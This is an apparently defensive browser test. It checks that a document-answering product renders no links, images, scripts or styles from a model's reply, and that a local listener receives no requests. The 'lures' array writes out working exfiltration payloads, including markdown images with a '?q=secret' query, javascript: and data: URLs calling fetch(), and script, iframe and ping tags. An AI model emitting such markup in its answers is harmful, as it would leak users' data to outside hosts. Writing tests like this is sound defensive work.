import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { createTheme } from "#contract/knowledge/themes.ts";
import { enter, expect, expectAccessible, test } from "./fixtures.ts";

const policy =
  "Refund Policy\n\n1. Time limits\nA customer may return an unopened product within 30 days of delivery.\n" +
  "\n2. Contact\nWrite to refunds@harbor.example or go to https://harbor.example/refunds for a label.\n";
const right = "A customer may return an unopened product within 30 days of delivery [1].";
const address = "Write to refunds@harbor.example or go to https://harbor.example/refunds for a label";

/** The host that a malicious reply tries to make the browser contact. */
async function startListener(): Promise<{ url: string; hits: string[]; close(): void }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, hits, close: () => void server.close() };
}

test("no model output makes the browser contact anyone or is clickable, in the stream, in history and in review (L3)", async ({
  page,
  context,
  url,
  api,
  company,
  model,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const listener = await startListener();
  const lures = [
    `![a](${listener.url}/inline?q=secret)`,
    `![a][r]\n\n[r]: ${listener.url}/reference`,
    `<img src="${listener.url}/html"><link rel="stylesheet" href="${listener.url}/css">`,
    `<style>@import "${listener.url}/style";body{background:url(${listener.url}/bg)}</style>`,
    `<svg><image href="${listener.url}/svg"/></svg><iframe src="${listener.url}/frame"></iframe>`,
    `[click](javascript:fetch('${listener.url}/js')) <${listener.url}/autolink> ${listener.url}/bare`,
    `[x](data:text/html,<script>fetch('${listener.url}/data')</script>) ![p](//127.0.0.1:${new URL(listener.url).port}/relative)`,
    `<script>fetch("${listener.url}/script")</script><a ping="${listener.url}/ping" href="#">x</a>`,
  ];
  // chunks of twelve characters: every lure spans several parts of the stream
  model.behave({ kind: "answer", reply: () => `${right}\n\n${lures.join("\n\n")}\n\n${address} [2].` });
  try {
    await api(createTheme, { name: "Refunds", workspaceId: company.workspaceId });
    await enter(page, url, company.admin);
    const card = page.getByRole("article", { name: "Refunds" });
    await card.getByRole("button", { name: "Edit Refunds" }).click();
    const edit = page.getByRole("dialog", { name: "Edit Theme" });
    await edit.getByRole("tab", { name: "Documents" }).click();
    const file = { name: "Refund Policy.txt", mimeType: "text/plain", buffer: Buffer.from(policy) };
    await edit.locator("input[type=file]").setInputFiles([file]);
    const documents = edit.getByRole("region", { name: "Uploaded documents" });
    await expect(documents.getByText("Ready")).toBeVisible({ timeout: 60_000 });
    await page.goto(`${url}/agent-workbench`);
    await page.getByRole("textbox").last().fill("How many days to return an unopened product?");
    await page.keyboard.press("Enter");
    await expect(page.getByText(/sentences? confirmed in the sources/)).toBeVisible();
    await expect(
      page.locator("article img, article iframe, article style, article script, article link"),
    ).toHaveCount(0);
    await expect(page.locator("article").getByRole("paragraph").filter({ hasText: address })).toBeVisible();
    // besides the product's own link to the proof
    await expect(page.locator("article a:not([href^='/']), article a[href^='//']")).toHaveCount(0);
    await expect(page.getByText(/sentences were removed because no source supports them/)).toBeVisible();
    await expect(page.locator("article")).not.toContainText(listener.url);
    await page.getByRole("button", { name: "Copy with sources" }).click();
    await expect(page.getByRole("button", { name: "Copied" })).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).toContain("sentences were removed because no source supports them");
    expect(copied).not.toContain(listener.url);
    await expectAccessible(page);
    await page.reload();
    await page.goto(`${url}/admin?tab=interactions`);
    await page
      .getByRole("button", { name: /details/i })
      .first()
      .click();
    await expect(page.getByRole("dialog")).toBeVisible();
    const details = page.getByRole("dialog");
    await expect(details.getByRole("heading", { name: "Removed from the model’s answer" })).toBeVisible();
    await expect(details.locator("a[href^='http'], a[href^='mailto'], img")).toHaveCount(0);
    // a picture or link would be fetched once the dialog has rendered
    await page.waitForTimeout(500);
    expect(listener.hits).toEqual([]);
  } finally {
    listener.close();
  }
});
